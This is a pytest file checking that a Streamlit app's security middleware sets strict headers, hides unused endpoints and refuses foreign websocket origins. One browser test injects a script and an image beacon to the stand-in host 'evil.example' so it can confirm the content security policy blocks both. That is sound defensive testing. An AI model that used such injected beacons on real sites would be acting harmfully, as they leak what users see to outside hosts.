"""What the page's server tells a browser with every answer, and what of Streamlit it does not serve."""

from __future__ import annotations

import re
from pathlib import Path
from typing import TYPE_CHECKING

import httpx
import pytest
import streamlit
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.requests import Request
from starlette.responses import PlainTextResponse
from starlette.routing import Route
from starlette.testclient import TestClient
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

from app.settings import Settings
from app.ui.headers import GuardedPage, policy
from tests.app.ui.pages import IN_A_BROWSER, settled

if TYPE_CHECKING:
    from tests.app.ui.pages import OpenPage

INDEX = (Path(streamlit.__file__).parent / "static" / "index.html").read_text(encoding="utf-8")
PUBLIC = Settings(public_url="https://desk.example.com")


def client(settings: Settings) -> TestClient:
    async def anything(_request: Request) -> PlainTextResponse:
        return PlainTextResponse("there", headers={"Referrer-Policy": "unsafe-url"})

    routes = [Route("/{path:path}", anything, methods=["GET", "PUT", "POST", "DELETE"])]
    guarded = [Middleware(GuardedPage, settings=settings, index=INDEX)]
    return TestClient(Starlette(routes=routes, middleware=guarded))


def directives(written: str) -> dict[str, list[str]]:
    return {name: values for name, *values in (each.split() for each in written.split(";"))}


@pytest.mark.parametrize("path", ["/", "/_stcore/host-config", "/media/a.csv", "/_stcore/upload_file/a/b"])
def test_every_answer_has_the_headers_whatever_else_set_them(path: str) -> None:
    told = client(Settings()).get(path).headers
    assert told["x-content-type-options"] == "nosniff"
    assert told["referrer-policy"] == "same-origin"
    assert told["x-frame-options"] == "DENY"
    assert "camera=()" in told["permissions-policy"]
    assert told["cross-origin-opener-policy"] == told["cross-origin-resource-policy"] == "same-origin"
    assert told["content-security-policy"] == policy(INDEX)


def test_a_script_is_one_of_streamlit_s_files_or_one_that_we_know_word_for_word() -> None:
    allowed = directives(policy(INDEX))
    assert allowed["default-src"] == allowed["base-uri"] == allowed["frame-ancestors"] == ["'none'"]
    assert allowed["form-action"] == allowed["connect-src"] == ["'self'"]
    assert all(each == "'self'" or re.fullmatch(r"'sha256-[\w+/=]{44}'", each) for each in allowed["script-src"])
    other = directives(policy(INDEX.replace("prerenderReady = false", "prerenderReady = true")))
    assert other["script-src"] != allowed["script-src"]
    assert {each for values in allowed.values() for each in values if ":" in each or "*" in each} == {"data:"}


def test_browsers_stay_with_tls_where_the_page_is_reached_by_it() -> None:
    assert client(PUBLIC).get("/").headers["strict-transport-security"] == "max-age=31536000"
    assert "strict-transport-security" not in client(Settings()).get("/").headers


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("PUT", "/_stcore/upload_file/session/file"),
        ("DELETE", "/_stcore/upload_file/session/file"),
        ("GET", "/_stcore/metrics"),
        ("POST", "/_stcore/agent/interact"),
        ("POST", "/_stcore/agent/mcp"),
    ],
)
def test_what_the_page_does_not_need_is_not_there(method: str, path: str) -> None:
    assert client(Settings()).request(method, path).status_code == 404
    assert client(Settings()).get("/_stcore/health").text == "there"


def test_the_served_page_has_all_of_this_and_takes_no_foreign_websocket(server: str) -> None:
    with httpx.Client(base_url=server, trust_env=False) as asking:
        page = asking.get("/")
        assert page.headers["content-security-policy"] == policy(page.text)
        for path in ("/_stcore/metrics", "/_stcore/agent/openapi.json", "/metrics"):
            assert asking.get(path).status_code == 404
        assert asking.put("/_stcore/upload_file/a/b", files={"file": b"x"}).status_code == 404
    stream = f"{server.replace('http:', 'ws:')}/_stcore/stream"
    connect(stream, additional_headers={"Origin": server}).close()
    with pytest.raises(InvalidStatus, match="403"):
        connect(stream, additional_headers={"Origin": "https://evil.example"})


class TestInABrowser:
    pytestmark = IN_A_BROWSER

    def test_a_script_that_gets_into_the_page_does_not_run_and_reaches_nobody(
        self, open_page: OpenPage, refused: list[str]
    ) -> None:
        page = open_page()
        settled(page)
        planted = """() => new Promise(done => {
            const script = document.createElement("script");
            script.textContent = "window.planted = true";
            const picture = document.createElement("img");
            picture.onerror = () => done(window.planted === undefined);
            picture.src = "https://evil.example/?what-was-said";
            document.body.append(script, picture);
        })"""
        assert page.evaluate(planted)
        said = " ".join(refused)
        assert "script-src" in said and "img-src" in said
        refused.clear()
